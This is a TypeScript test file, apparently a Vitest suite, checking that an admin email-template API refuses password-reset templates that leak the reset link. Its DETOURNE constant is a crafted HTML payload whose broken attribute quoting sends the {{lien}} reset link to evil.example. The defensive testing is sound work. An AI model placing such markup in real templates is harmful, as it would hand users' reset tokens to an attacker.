import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { IMPORT_EN_TRAVAIL, type ImportDeListe } from '#src/core/api/import.ts';
import { texteLivre } from '#src/core/message/texte-livre.ts';
import { MESSAGES } from '#src/messages/registre.ts';
import { dernierLien, identite } from '#tests/support/accounts.ts';
import { type TestApp, testApp } from '#tests/support/app.ts';
import { principals } from '#tests/support/principals.ts';
import { expectRefusal } from '#tests/support/refusal.ts';
import { formulaire } from '#tests/support/televersement.ts';
import { HOSTILES } from '#tests/support/textes-qui-fuient.ts';
import { type Visitor, visitor } from '#tests/support/visitor.ts';

const LISTE = '/api/admin/settings/mail/template';
const CODE = 'REINIT_MDP';
const LIVRE = texteLivre(MESSAGES[CODE]);
const DETOURNE = `<a class="bouton" title=' href="' href="https://evil.example/?u=\n{{lien}}">Choisir</a> {{lien}} {{duree}} {{client}}`;
const REFUS = { corpsHtml: expect.stringContaining('dans une adresse') };

let server: TestApp;
let manager: Visitor;
let fiche: Record<string, unknown>;
beforeAll(async () => {
  server = await testApp();
  manager = await principals(server.app)('gestionnaire');
});
beforeEach(async () => {
  await garde(LIVRE.corpsHtml);
  fiche = await lue();
});
afterAll(() => server.close());

/** As a text that was kept before it was refused. */
const garde = (corpsHtml: string) =>
  server.db.query(
    `update modele_mail m set corps_html = $1 from client c where c.id = m.client_id and c.code = 'horizon' and m.code = $2`,
    [corpsHtml, CODE],
  );

async function lue() {
  const filter = encodeURIComponent(JSON.stringify({ code: CODE }));
  return (await manager.get(`${LISTE}?filter=${filter}`)).json()[0];
}

const dePlusieurs = (corpsHtml: string) => ({
  ids: [fiche.id],
  versions: { [String(fiche.id)]: fiche.version },
  data: { corpsHtml },
});

test('aucun n’est pris, sur son champ, et rien n’est écrit', async () => {
  for (const [champ, ecrit] of HOSTILES) {
    const body = { id: fiche.id, version: fiche.version, [champ]: ecrit };
    const { errors } = expectRefusal(await manager.call('PUT', `${LISTE}/${fiche.id}`, { body }), 400, ecrit);
    expect(errors).toEqual({ [champ]: expect.stringContaining('dans une adresse') });
  }
  expect(await lue()).toEqual(fiche);
});

test('ni à plusieurs, ni en création, ni à l’aperçu, ni à l’essai', async () => {
  expectRefusal(await manager.call('PATCH', LISTE, { body: dePlusieurs(DETOURNE) }), 400);
  expect(await lue()).toEqual(fiche);
  for (const url of ['apercu', 'essai']) {
    const body = { code: CODE, ...LIVRE, corpsHtml: DETOURNE };
    expect(expectRefusal(await manager.call('POST', `${LISTE}/${url}`, { body }), 400).errors).toEqual(REFUS);
  }
  expect(
    (await manager.call('DELETE', `${LISTE}/${fiche.id}`, { body: { version: fiche.version } })).statusCode,
  ).toBe(200);
  const body = { code: CODE, libelle: 'x', ...LIVRE, corpsHtml: DETOURNE };
  expect(expectRefusal(await manager.call('POST', LISTE, { body }), 400).errors).toEqual(REFUS);
  expect((await manager.call('POST', `${LISTE}/supprimes/${fiche.id}/restauration`)).statusCode).toBe(201);
});

test('ni par un fichier', async () => {
  const contenu = `code;corpsHtml\n${CODE};"${DETOURNE.replaceAll('"', '""')}"`;
  const { corps, type } = formulaire({ nom: 'textes.csv', contenu, inputName: 'import' });
  const headers = { 'content-type': type };
  const depose = await manager.call('POST', `${LISTE}/imports`, { body: corps, headers });
  expect(depose.statusCode, depose.body).toBe(201);
  const lu = async () => (await manager.get(`${LISTE}/imports/${depose.json().id}`)).json<ImportDeListe>();
  await expect.poll(async () => IMPORT_EN_TRAVAIL.includes((await lu()).etat)).toBe(false);
  expect(await lu()).toMatchObject({ modifies: 0, refuses: 1 });
  expect((await lu()).refus[0]?.motif).toContain('dans une adresse');
});

test('ce qui l’était avant d’être refusé ne revient pas', async () => {
  await garde(DETOURNE);
  fiche = await lue();
  const { lot } = (await manager.call('PATCH', LISTE, { body: dePlusieurs('<p>{{lien}}</p>') })).json();
  const retour = await manager.call('POST', `${LISTE}/lots/${lot}/retour`);
  expect(retour.json()).toEqual({ rendues: 0, gardees: 1 });
  expect((await lue()).corpsHtml).toBe('<p>{{lien}}</p>');

  await garde(DETOURNE);
  const { id, version } = await lue();
  expect((await manager.call('DELETE', `${LISTE}/${id}`, { body: { version } })).statusCode).toBe(200);
  expectRefusal(await manager.call('POST', `${LISTE}/supprimes/${id}/restauration`), 400);
});

test('un texte gardé depuis laisse la place au texte livré', async () => {
  const body = { code: CODE, libelle: 'x', ...LIVRE };
  if (!(await lue())) await manager.call('POST', LISTE, { body });
  await garde(`<p>Notre texte.</p>${DETOURNE}`);
  const qui = visitor(server.app);
  await qui.get('/');
  const demande = { userName: 'adherent@demo.fr', dateNaissance: '1985-05-12' };
  expect((await identite(qui, 'forgot-password', demande)).statusCode).toBe(204);
  expect((await dernierLien(server, demande.userName)).route).toBe('/reset-password');
  const envois = async () => (await qui.get(`/api/demo/envois?destinataire=${demande.userName}`)).json();
  await expect.poll(async () => (await envois())[0]?.etat, { timeout: 30_000 }).toBe('envoye');
  const { html } = (await qui.get(`/api/demo/envois/${(await envois())[0].id}`)).json();
  expect(html).toContain('/reset-password');
  expect(html).not.toMatch(/evil\.example|Notre texte/);
});
